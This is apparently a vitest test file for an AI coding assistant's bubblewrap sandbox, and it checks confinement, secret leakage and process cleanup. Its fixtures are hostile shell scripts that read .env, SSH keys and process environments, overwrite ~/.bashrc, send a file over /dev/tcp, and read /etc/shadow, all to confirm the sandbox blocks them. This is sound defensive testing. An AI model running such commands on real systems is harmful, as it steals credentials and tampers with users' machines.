import { randomUUID } from 'node:crypto';
import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { type AcaOptions, aca, doors, parseStream } from '../support/aca.ts';
import { acaAsNobody } from '../support/as-nobody.ts';
import { calls, hangs, type Step, says, slowly } from '../support/model-server/script.ts';
import { leftAfter, runningWith } from '../support/processes.ts';
import { noBubblewrap } from '../support/sandboxed.ts';
import { serve } from '../support/serve.ts';
import { soak, sweep } from '../support/soak.ts';
import { workspace } from '../support/workspace.ts';

beforeEach(({ skip }) => {
  if (noBubblewrap !== null) skip(noBubblewrap);
});

/** A script of the project: the judge cannot see into it, so the walls are all there is. */
const script = (name: string, more: object = {}) => calls(['Bash', { command: `bash ${name}`, ...more }]);

async function start(files: Record<string, string>, steps: Step[]) {
  const space = await workspace(files);
  const server = await serve(steps);
  const { model, env } = doors['openai-chat'](server.url);
  const scripts = Object.keys(files).filter((name) => name.endsWith('.sh'));
  const allow = scripts.flatMap((name) => ['--allow', `Bash(bash ${name})`]);
  const args = ['-p', 'go', '--model', model, '--output-format', 'stream-json', ...allow];
  const run = (options: AcaOptions = {}) => aca(space, args, { ...options, env: { ...env, ...options.env } });
  return { space, server, run, args, env };
}

/** What the model was told of its calls: whether it went well, the text, and where it ran. */
function answers(stdout: string) {
  return parseStream(stdout).events.flatMap((event) => {
    if (event.type !== 'message' || event.message.role !== 'tool') return [];
    const { success, content, metadata = {} } = event.message;
    const text = content.map((part) => (part.type === 'text' ? part.text : '')).join('');
    return [{ success, text, sandbox: metadata.sandbox }];
  });
}

const confined = { kind: 'bubblewrap', level: 'standard', network: 'none' };

describe('[X01] [X03] [Y37] the sandbox around a run', () => {
  test('a model that may run everything changes the project and nothing else, and learns no secret', async () => {
    const beacon = createServer((_, response) => response.end('reached'));
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void beacon.close());
    const { port } = beacon.address() as AddressInfo;
    const files = {
      '.env': 'TOKEN=canary-in-project',
      'a.txt': 'a',
      'work.sh': 'echo b > b.txt; cat a.txt',
      'spy.sh': 'cat .env "$HOME/.ssh/id_rsa"; cat /proc/$PPID/environ | tr "\\0" "\\n"; env',
      'harm.sh': 'echo evil > "$HOME/.bashrc"; mkdir "$HOME/bin"; touch /etc/evil',
      'call.sh': `exec 5<>/dev/tcp/127.0.0.1/${port} && cat a.txt >&5`,
      'end.sh': 'exit 7',
    };
    const names = Object.keys(files).filter((name) => name.endsWith('.sh'));
    const { space, server, run } = await start(files, [...names.map((name) => script(name)), says('done')]);
    await mkdir(path.join(space.home, '.ssh'));
    await writeFile(path.join(space.home, '.ssh/id_rsa'), 'canary-at-home');
    const { code, stdout } = await run();
    const told = answers(stdout);
    expect(told.map(({ success, sandbox }) => [success, sandbox])).toEqual([
      [true, confined],
      [true, confined],
      [false, confined],
      [false, confined],
      [false, confined],
    ]);
    expect(told[0]?.text).toBe('a');
    expect(told[2]?.text).toContain(
      'The sandbox blocked this (only the working directory and /tmp can be changed). Nothing can run outside it here: find another way, or tell the user what is missing.',
    );
    expect(told[4]?.text).toBe('Exit code 7');
    expect(code).toBe(0);
    const sent = server.requests.map(({ body }) => JSON.stringify(body)).join('\n');
    expect(sent.match(/canary-[a-z-]*|sk-test/g)).toBeNull();
    expect(await space.tree()).toMatchObject({
      'a.txt': 'a',
      'b.txt': 'b\n',
      '.env': 'TOKEN=canary-in-project',
    });
    expect((await readdir(space.home)).sort()).toEqual(['.ai-assistant', '.ssh']);
  });

  test('file tools read outside the project what commands read there, without asking', async () => {
    const { space, server } = await start({ 'a.txt': 'a' }, [
      calls(
        ['Read', { file_path: '/etc/passwd' }],
        ['Bash', { command: 'cat /etc/passwd' }],
        ['Grep', { pattern: '^root:', path: '/etc/passwd', output_mode: 'content' }],
        ['Glob', { pattern: 'passwd', path: '/etc' }],
        ['List', { path: '/etc' }],
        ['Read', { file_path: '~/notes.txt' }],
        ['Read', { file_path: '/etc/shadow' }],
        ['Write', { file_path: '/etc/passwd', content: '' }],
      ),
      says('done'),
    ]);
    await writeFile(path.join(space.home, 'notes.txt'), 'canary-at-home');
    const { model, env } = doors['openai-chat'](server.url);
    const args = ['-p', 'go', '--model', model, '--mode', 'auto', '--output-format', 'stream-json'];
    const { stdout } = await aca(space, args, { env });
    const said = answers(stdout);
    expect(said.map(({ success }) => success)).toEqual([true, true, true, true, true, false, false, false]);
    for (const { text } of said.slice(0, 3)) expect(text).toContain('root:');
    for (const { text } of said.slice(3, 5)) expect(text).toContain('passwd');
    expect(stdout).not.toContain('canary-at-home');
  });

  sweep(['default', 'accept-edits', 'plan', 'auto', 'read-only'])(
    'a setting of the kernel cannot be opened for writing in %s mode',
    async (mode) => {
      const files = {
        // Opened, never written.
        'open.sh':
          'for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/power/state /proc/self/status; do\n' +
          '[ -e "$f" ] || continue; (exec 3>>"$f") 2>/dev/null && echo "opened $f"; done; echo tried',
      };
      const { run, args } = await start(files, [script('open.sh'), says('done')]);
      args.push('--mode', mode);
      const { stdout } = await run();
      expect(answers(stdout)).toEqual([
        { success: true, text: 'tried\n', sandbox: expect.objectContaining({ kind: 'bubblewrap' }) },
      ]);
    },
  );

  test('it is tested while the model thinks, so that the first command need not wait', soak, async () => {
    const { space, run } = await start({}, [slowly(says('done'), { firstMs: 5_000 })]);
    expect((await run()).code).toBe(0);
    expect(await readdir(path.join(space.home, '.ai-assistant/cache'))).toContain('sandbox-probe');
  });

  test('kill -9 of the assistant ends what runs in the sandbox', soak, async () => {
    const word = `7${process.pid}${Date.now() % 1_000}`;
    const files = {
      'behind.sh': `trap '' TERM; sleep ${word}; sleep ${word}`,
      'front.sh': `(setsid nohup sleep ${word} &); sleep ${word}`,
    };
    const { run } = await start(files, [
      script('behind.sh', { run_in_background: true }),
      script('front.sh'),
      hangs(),
    ]);
    let kill = () => false;
    const ended = run({
      onSpawn: (child) => {
        kill = () => child.kill('SIGKILL');
      },
    });
    const sleeping = () => runningWith(`sleep ${word}`).filter((line) => !line.includes('bwrap')).length;
    for (const deadline = Date.now() + 15_000; sleeping() < 3 && Date.now() < deadline; ) await sleep(50);
    expect(sleeping()).toBeGreaterThanOrEqual(3);
    kill();
    await ended.catch(() => undefined);
    expect(await leftAfter(`sleep ${word}`, 3_000)).toEqual([]);
  });
});

describe('[X04] [Z05] [Y30] without bubblewrap', () => {
  /** A PATH with these programs and no others. */
  async function pathWith(home: string, programs: string[]): Promise<string> {
    const bin = path.join(home, `bin-${randomUUID()}`);
    await mkdir(bin);
    for (const name of programs) await symlink(`/usr/bin/${name}`, path.join(bin, name));
    return bin;
  }

  test('commands run on the machine and the result says so', async () => {
    const { space, run } = await start({ 'a.sh': 'echo ran' }, [script('a.sh'), says('done')]);
    const { stdout } = await run({ env: { PATH: await pathWith(space.home, ['bash']) } });
    const fallback = expect.stringContaining('bubblewrap is not installed');
    const sandbox = { kind: 'host', level: 'standard', network: 'open', fallback };
    expect(answers(stdout)).toEqual([{ success: true, text: 'ran\n', sandbox }]);
  });

  test('where it is required nothing runs, and the model is told what is missing', async () => {
    const { space, run } = await start({ 'a.sh': 'touch made' }, [script('a.sh'), says('done')]);
    await mkdir(path.join(space.home, '.ai-assistant'));
    await writeFile(
      path.join(space.home, '.ai-assistant/config.json'),
      '{ "sandbox": { "required": true } }',
    );
    const { stdout } = await run({ env: { PATH: await pathWith(space.home, ['bash', 'touch']) } });
    expect(answers(stdout)[0]).toMatchObject({
      success: false,
      text: expect.stringContaining('bubblewrap is not installed'),
    });
    expect(await space.tree()).toEqual({ 'a.sh': 'touch made' });
  });
});

test('[X01] an ordinary user is sandboxed as root is', async ({ skip }) => {
  if (process.getuid?.() !== 0) skip('runs as an ordinary user already');
  const files = { '.env': 'canary', 'a.sh': 'id -u; cat .env; touch made; touch "$HOME/x"; echo $?' };
  const { space, args, env } = await start(files, [script('a.sh'), says('done')]);
  const outcome = await acaAsNobody(space, args, env);
  if (outcome === null) return skip('this folder is closed to ordinary users');
  const { stdout } = outcome;
  expect(answers(stdout)).toEqual([
    { success: true, text: expect.stringMatching(/^65534\n1\n/), sandbox: confined },
  ]);
  expect(await readFile(path.join(space.root, 'made'), 'utf8')).toBe('');
});
